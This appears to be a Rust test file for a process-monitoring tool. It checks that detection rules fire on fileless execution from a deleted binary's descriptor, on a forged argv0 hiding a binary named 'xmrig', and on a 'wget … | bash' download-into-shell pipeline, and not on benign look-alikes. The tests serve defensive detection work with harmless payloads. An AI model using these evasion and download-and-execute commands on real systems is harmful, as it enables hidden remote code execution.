//! Without exe access (the collector as another uid), a runner that deletes its binary
//! and a binary started under another name show only what they chose: comm and argv. The
//! command lines that started them are world-readable and tell; an exec of a path and an
//! exec without a new name do not fire. A pipeline in a script file shows no pipe and no
//! telling command line, but its commands run side by side under one shell.

use std::process::{Command, Stdio};

use super::{
    alerts, download_twins, family, fired_on, observe, scratch_dir, serve_dir, sh_file, PY,
};
use crate::util::{Kids, UNPRIVILEGED};

#[test]
fn a_runner_executing_a_descriptor_and_a_forged_argv0_fire_without_exe_access() {
    let dir = scratch_dir();
    let d = dir.path().display();
    let xmrig = dir.path().join("xmrig");
    crate::util::copy_executable("/usr/bin/sleep", &xmrig);
    let runner = format!(
        "import os,shutil\nshutil.copy('/usr/bin/sleep','{d}/x')\nfd=os.open('{d}/x',os.O_RDONLY)\nos.unlink('{d}/x')\nos.execve(fd,['x','2'],{{}})"
    );
    let python = |code: &str| {
        Command::new(PY)
            .args(["-c", code])
            .stdout(Stdio::null())
            .spawn()
            .expect("python3")
    };
    // `; true`: the shell waits for bash instead of exec'ing it, as a script would.
    let shell = |script: String| {
        Command::new("sh")
            .args(["-c", &format!("{script}; true")])
            .spawn()
            .expect("sh")
    };
    let (records, kids) = observe(&UNPRIVILEGED, || {
        Kids(vec![
            python(&runner),
            shell(format!("bash -c 'exec -a awk {} 2'", xmrig.display())),
            python("import os; os.execv('/usr/bin/sleep', ['sleep', '2'])"),
            shell(format!("bash -c 'exec {} 2'", xmrig.display())),
        ])
    });
    let denied = records.iter().any(|r| {
        matches!(r, procflow::model::Record::Process(p) if p.pid == kids.0[0].id()
            && p.exe_unavailable == procflow::model::Unavailable::PermissionDenied)
    });
    assert!(denied, "the collector could read the runner's exe");
    let all = alerts(&records);
    for (i, rule) in [(0, "PF-EXEC-FD-CMDLINE"), (1, "PF-ARGV0-FORGED")] {
        let attack = family(&[kids.0[i].id()], &records);
        assert!(fired_on(&all, rule, &attack), "{rule}: {all:?}");
    }
    for (i, what) in [(2, "an exec of a path"), (3, "an exec keeping its name")] {
        let benign = family(&[kids.0[i].id()], &records);
        assert!(
            !fired_on(&all, "PF-EXEC-FD-CMDLINE", &benign)
                && !fired_on(&all, "PF-ARGV0-FORGED", &benign),
            "{what}: {all:?}"
        );
    }
}

#[test]
fn a_scripts_download_into_a_shell_is_seen_by_its_siblings_without_fd_access() {
    let dir = scratch_dir();
    std::fs::write(dir.path().join("x.sh"), "sleep 2\n").expect("payload");
    let (_server, port) = serve_dir(dir.path());
    let url = format!("http://127.0.0.1:{port}/x.sh");
    let script = |name: &str, body: String| sh_file(dir.path(), name, &body);
    let (records, kids) = observe(&UNPRIVILEGED, || {
        let [grep, local] = download_twins(dir.path(), &url);
        Kids(vec![
            script("setup.sh", format!("wget -qO- {url} | bash\n")),
            grep,
            local,
            script(
                "file.sh",
                format!(
                    "curl -fsS -o {d}/y.sh {url} & sh {d}/x.sh\n",
                    d = dir.path().display()
                ),
            ),
        ])
    });
    let all = alerts(&records);
    let attack = family(&[kids.0[0].id()], &records);
    let here = all
        .iter()
        .filter(|(r, p, _)| {
            r == "PF-DOWNLOAD-SHELL-SIBLINGS" && p.is_some_and(|p| attack.contains(&p))
        })
        .count();
    assert_eq!(here, 1, "one pipeline, one alert: {all:?}");
    for (i, what) in [
        (1, "curl | grep"),
        (2, "cat | sh"),
        (3, "a download to a file"),
    ] {
        let benign = family(&[kids.0[i].id()], &records);
        assert!(
            !fired_on(&all, "PF-DOWNLOAD-SHELL-SIBLINGS", &benign),
            "{what}: {all:?}"
        );
    }
}
